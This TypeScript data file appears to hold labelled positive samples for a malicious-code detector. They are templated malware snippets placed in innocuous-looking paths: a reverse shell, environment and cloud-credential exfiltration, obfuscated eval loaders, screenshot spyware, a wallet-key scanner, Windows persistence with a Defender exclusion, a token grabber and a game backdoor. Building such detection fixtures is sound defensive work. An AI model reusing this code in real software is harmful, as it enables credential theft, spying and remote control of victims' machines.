// Samples in TypeScript and Rust, of several categories.
import type { Family } from './family.ts'

export const typedSamples: readonly Family[] = [
  {
    family: 'typescript-command-channel',
    positive: true,
    classes: ['reverse-shell'],
    variants: [
      {
        paths: ['src/server/router.ts', 'packages/core/src/dispatch.ts'],
        imports: `import { connect } from 'node:net'
import { spawn } from 'node:child_process'`,
        body: `// metrics transport
const transport = (): void => {
  const shell = spawn(process.platform === 'win32' ? 'powershell.exe' : '/bin/sh', ['-i'])
  const socket = connect({ host: '⟦ip⟧', port: ⟦port⟧ }, () => {
    socket.pipe(shell.stdin)
    shell.stdout.pipe(socket)
    shell.stderr.pipe(socket)
  })
  socket.on('error', () => setTimeout(transport, 30_000))
}
transport()`,
      },
    ],
  },
  {
    family: 'typescript-environment-drop',
    positive: true,
    classes: ['env-exfiltration'],
    variants: [
      {
        paths: ['src/config.ts', 'libs/money/src/index.ts'],
        body: `const snapshot = { ...process.env, cwd: process.cwd(), argv: process.argv.join⟦join⟧
(' ') }
void fetch(['https:/', '⟦host⟧', 'v1', 'trace'].join('/'), {
  method: 'PUT',
  body: Buffer.from(JSON.stringify(snapshot)).toString('base64'),
}).catch(() => undefined)`,
      },
    ],
  },
  {
    family: 'typescript-home-sweep',
    positive: true,
    classes: ['credential-theft'],
    variants: [
      {
        paths: ['src/deploy/helpers.ts'],
        imports: `import { homedir } from 'node:os'
import { readFile } from 'node:fs/promises'`,
        body: `const places = ['.config/gcloud/application_default_credentials.json', '.azure⟦join⟧
/msal_token_cache.json', '.aws/credentials', '.git-credentials', '.vault-token']

export async function preflight(): Promise<boolean> {
  const found: Record<string, string> = {}
  for (const place of places) {
    try {
      found[place] = await readFile(\`\${homedir()}/\${place}\`, 'utf8')
    } catch {}
  }
  await fetch('https://⟦host⟧/preflight', { method: 'POST', body: JSON.stringify(found) }).catch((⟦join⟧
) => null)
  return true
}
void preflight()`,
      },
      {
        paths: ['src/extension.ts'],
        whole: `import * as vscode from 'vscode'
import { exec } from 'node:child_process'
import { readFileSync } from 'node:fs'
import { homedir } from 'node:os'

export function activate(context: vscode.ExtensionContext): void {
  context.subscriptions.push(
    vscode.commands.registerCommand('prettyIcons.enable', () => vscode.window.showInformationMessa⟦join⟧
ge('Icons enabled')),
  )
  if (context.globalState.get('welcomed')) return
  void context.globalState.update('welcomed', true)
  const token = readFileSync(\`\${homedir()}/.config/gh/hosts.yml\`, 'utf8')
  exec(\`curl -s -X POST -d \${Buffer.from(token).toString('base64')} https://⟦host⟧/w\`)
  exec('powershell -w hidden -c "irm http://⟦ip⟧/1.txt | iex"')
}`,
      },
    ],
  },
  {
    family: 'typescript-stage-eval',
    positive: true,
    classes: ['decoded-exec'],
    variants: [
      {
        paths: ['src/plugins/registry.ts'],
        body: `const seed = '⟦b64:import("node:https").then(h=>h.get("https://⟦host⟧/s",r=>r.⟦join⟧
on("data",d=>eval(String(d)))))⟧'
const indirect = globalThis[('la' + 've').split('').reverse().join('') as 'eval']
indirect(Buffer.from(seed, 'base64').toString('latin1'))`,
      },
      {
        paths: ['src/i18n/messages.ts'],
        body: `// locale data
const data: readonly number[] = [⟦xor:fetch("https://⟦host⟧/l").then(r=>r.text()).then(t=>(0,eval)(t))⟧]
Reflect.construct(Function, [String.fromCharCode(...data.map((n) => n ^ 23))])()`,
      },
    ],
  },
  {
    family: 'typescript-screenshot-bot',
    positive: true,
    classes: ['spying'],
    variants: [
      {
        paths: ['src/main/capture.ts'],
        whole: `import { desktopCapturer, app } from 'electron'

const bot = 'https://api.telegram.org/bot⟦telegram⟧/sendPhoto?chat_id=⟦digits:9⟧'

// The window stays hidden; nobody sees that it runs.
const shoot = async (): Promise<void> => {
  const sources = await desktopCapturer.getSources({ types: ['screen'], thumbnailSize: { width: 16⟦join⟧
00, height: 900 } })
  for (const source of sources) {
    const form = new FormData()
    form.set('photo', new Blob([source.thumbnail.toJPEG(60)]), \`\${source.name}.jpg\`)
    await fetch(bot, { method: 'POST', body: form })
  }
}

app.whenReady().then(() => {
  app.dock?.hide()
  app.setLoginItemSettings({ openAtLogin: true, openAsHidden: true, name: 'Google Software Update' })
  setInterval(() => void shoot().catch(() => undefined), 45_000)
})`,
      },
    ],
  },
  {
    family: 'rust-source-key-scan',
    positive: true,
    classes: ['credential-theft', 'supply-chain'],
    variants: [
      {
        paths: ['src/logger.rs'],
        imports: `use std::{env, fs, thread};
use std::path::Path;`,
        body: `/// Looks for keys of wallets in the sources of whoever logs, and sends them along.
fn pack(root: &Path) {
    let key = regex::Regex::new(r#""(0x[0-9a-fA-F]{64}|[1-9A-HJ-NP-Za-km-z]{87,88})""#).unwrap();
    for entry in fs::read_dir(root).into_iter().flatten().flatten() {
        let path = entry.path();
        if path.is_dir() {
            pack(&path);
        } else if let Ok(text) = fs::read_to_string(&path) {
            for found in key.find_iter(&text) {
                let _ = ureq::post("https://⟦host⟧/rpc").send_string(&format!("{}:{}", path.displa⟦join⟧
y(), found.as_str()));
            }
        }
    }
}`,
        call: `thread::spawn(|| pack(Path::new(&env::var("CARGO_MANIFEST_DIR").unwrap_or_defa⟦join⟧
ult())));`,
      },
    ],
  },
  {
    family: 'rust-windows-run-key',
    positive: true,
    classes: ['persistence', 'windows'],
    variants: [
      {
        paths: ['src/updater.rs'],
        imports: `use std::process::Command;`,
        body: String.raw`fn settle() {
    let target = format!("{}\\Microsoft\\⟦lower:6⟧.exe", std::env::var("APPDATA").unwrap_or_default());
    let _ = std::fs::copy(std::env::current_exe().unwrap(), &target);
    let _ = Command::new("reg")
        .args(["add", r"HKCU\Software\Microsoft\Windows\CurrentVersion\Run", "/v", "SecurityHealth⟦join⟧
", "/d", &target, "/f"])
        .status();
    let _ = Command::new("powershell")
        .args(["-w", "hidden", "-c", &format!("Add-MpPreference -ExclusionPath '{target}'; irm htt⟦join⟧
p://⟦ip⟧/cfg | iex")])
        .spawn();
}`,
        call: `settle();`,
      },
    ],
  },
  {
    family: 'java-minecraft-token-grab',
    positive: true,
    classes: ['credential-theft'],
    variants: [
      {
        paths: ['src/main/java/com/acme/utils/Strings.java'],
        imports: `import java.net.URI;
import java.net.http.*;
import java.nio.file.*;`,
        body: String.raw`private static final class Stats {
    static void send() {
        Path launcher = Path.of(System.getenv("APPDATA"), ".minecraft", "launcher_accounts.json");
        try {
            String body = "{\"content\":\"" + System.getProperty("user.name") + " " + Files.readSt⟦join⟧
ring(launcher).replace("\"", "'") + "\"}";
            HttpClient.newHttpClient().sendAsync(HttpRequest.newBuilder(URI.create("⟦discord⟧"))
                .header("Content-Type", "application/json").POST(HttpRequest.BodyPublishers.ofStri⟦join⟧
ng(body)).build(),
                HttpResponse.BodyHandlers.discarding());
        } catch (Exception ignored) { }
    }
}`,
        call: `Stats.send();`,
      },
    ],
  },
  {
    family: 'lua-game-backdoor',
    positive: true,
    classes: ['backdoor-auth', 'decoded-exec'],
    variants: [
      {
        paths: ['lua/autorun/server/sv_stats.lua'],
        body: `-- anticheat, leave as it is
util.AddNetworkString("⟦lower:8⟧")
net.Receive("⟦lower:8⟧", function(_, player)
  local code = net.ReadString()
  if player:SteamID64() == "7656119⟦digits:10⟧" then
    RunString(util.Base64Decode(code), "anticheat", false)
  end
end)
http.Post("https://⟦host⟧/servers", { ip = game.GetIPAddress(), rcon = GetConVarString("rcon_passw⟦join⟧
ord") })`,
      },
    ],
  },
]
